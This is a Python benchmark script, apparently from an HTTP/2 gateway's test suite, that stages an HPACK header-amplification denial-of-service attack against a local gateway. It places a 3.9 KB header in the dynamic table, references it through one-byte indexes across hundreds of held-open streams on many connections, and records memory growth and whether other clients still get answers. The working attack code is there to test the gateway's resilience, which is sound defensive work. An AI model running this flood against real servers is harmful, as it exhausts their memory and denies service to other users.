#!/usr/bin/env python3
"""Heads that cost a client little and the gateway much: a header of 3.9 KB stands in HPACK's dynamic table, and each stream names it 14 times,
in one octet each. Streams are held open. Shows the memory of the gateway, what became of the streams, and whether another client is answered.

  bench/attacks/heads.py [CONNECTIONS]
"""
import collections
import os
import socket
import sys
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), ".."))
import frames
import world

STREAMS, REPEATS, ATTEMPTS = 128, 14, 400


def attack(port):
    """One connection that opens as many streams as it may, and goes on."""
    connection = socket.create_connection(("127.0.0.1", port))
    # POST, http, /, the authority; the large header goes into the table with the first stream, and has the index 62 from then on.
    head = frames.request(b"host-1.example.com", method=b"\x83")
    large = b"\x40" + frames.text(b"x-large") + frames.text(b"v" * 3900)
    sent = frames.PREFACE
    for number in range(ATTEMPTS):
        repeats = (large + b"\xbe" * (REPEATS - 1)) if number == 0 else b"\xbe" * REPEATS
        sent += frames.frame(frames.HEADERS, frames.END_HEADERS, 2 * number + 1, head + repeats)
    try:
        connection.sendall(sent)
    except OSError:
        pass
    return connection, len(sent)


def main():
    connections = int(sys.argv[1]) if len(sys.argv) > 1 else 60
    with frames.Gateway() as gateway:
        before = gateway.memory_mb()
        attackers = [attack(world.PORT) for _ in range(connections)]
        frames.settle(gateway)
        seen = collections.Counter()
        for connection, _ in attackers:
            seen.update(frames.received(connection))
        answered = frames.asks(world.PORT, 20)
        world.show("heads", {"connections": connections, "sent_kb": sum(sent for _, sent in attackers) // 1024,
                             "memory_mb": f"{before:.1f} -> {gateway.memory_mb():.1f}", "peak_mb": round(gateway.peak_mb(), 1),
                             "frames_received": dict(seen), "others_answered": answered, "others_failed": 20 - answered})
        for connection, _ in attackers:
            connection.close()
        time.sleep(1)
        world.show("heads, when all have gone", {"memory_mb": round(gateway.memory_mb(), 1)})


if __name__ == "__main__":
    main()
